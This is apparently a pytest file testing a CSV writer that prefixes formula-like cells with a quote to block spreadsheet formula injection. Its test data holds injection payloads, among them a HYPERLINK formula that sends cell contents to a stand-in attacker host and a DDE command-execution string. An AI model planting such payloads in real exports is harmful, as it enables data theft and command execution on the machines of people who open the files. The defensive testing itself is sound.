"""The shared CSV writer: which cells get the `'` that keeps a spreadsheet from evaluating them,
and that what is written reads back (csv module) as exactly the escaped text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from contentguard.csvfile import CsvWriter, cell, escape

ESCAPED = [
    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0",
    "+1", "+A1", "-1-1", "-", "@A1", "@SUM(A1:A9)",
    "\tname", "\t=1", "\rx", "\nx", "\0x",
    "＝1+1", "＋1", "－1", "＠A1",  # full-width
    " =1+1", "   -1", " \t x", "\u00a0@A1", "\u3000=1",  # after leading whitespace
]
KEPT = [
    "", "alice", "a-b", "a=b", "a@b.example", "user:alice", "1-1", "0.5", "'quoted",
    "{\"note\": \"=1+1\"}", "[1, 2]", " ", "   ", "x\t=1", "2025-01-01T00:00:00+00:00",
    "é=1", "\u200b=1",  # a zero-width space is not whitespace to str.isspace: kept, shown as is
]


@pytest.mark.parametrize("text", ESCAPED)
def test_a_cell_a_spreadsheet_could_evaluate_gets_a_leading_quote(text: str) -> None:
    assert escape(text) == "'" + text


@pytest.mark.parametrize("text", KEPT)
def test_other_cells_are_written_as_they_are(text: str) -> None:
    assert escape(text) == text


def test_values_become_cells() -> None:
    assert cell(None) == ""
    assert cell(-1) == "-1" and cell(-0.25) == "-0.25" and cell(3) == "3"  # numbers are ours
    assert cell(True) == "true"
    assert cell(datetime(2025, 1, 2, 3, 4, tzinfo=UTC)) == "2025-01-02T03:04:00+00:00"
    assert cell({"b": "=x", "a": 1}) == '{"a": 1, "b": "=x"}'
    assert cell(["-1"]) == '["-1"]'
    assert cell("-1") == "'-1"  # text, even when it looks like a number


def test_every_cell_is_quoted_and_reads_back_as_the_escaped_text() -> None:
    out = io.StringIO(newline="")
    writer = CsvWriter(out, ["name", "note", "n"])
    writer.write_header()
    hostile = {"name": "-1-1", "note": 'a "quoted", comma\n=2+2', "n": 7}
    writer.write_rows([hostile, {"name": "@A1"}])
    text = out.getvalue()
    assert text.splitlines()[0] == '"name","note","n"'
    assert text.splitlines()[1].startswith('"\'-1-1","a ""quoted"", comma')
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows == [{"name": "'-1-1", "note": 'a "quoted", comma\n=2+2', "n": "7"},
                    {"name": "'@A1", "note": "", "n": ""}]


def test_an_unknown_column_is_refused() -> None:
    with pytest.raises(ValueError, match="extra"):
        CsvWriter(io.StringIO(), ["a"]).write_row({"a": 1, "extra": 2})
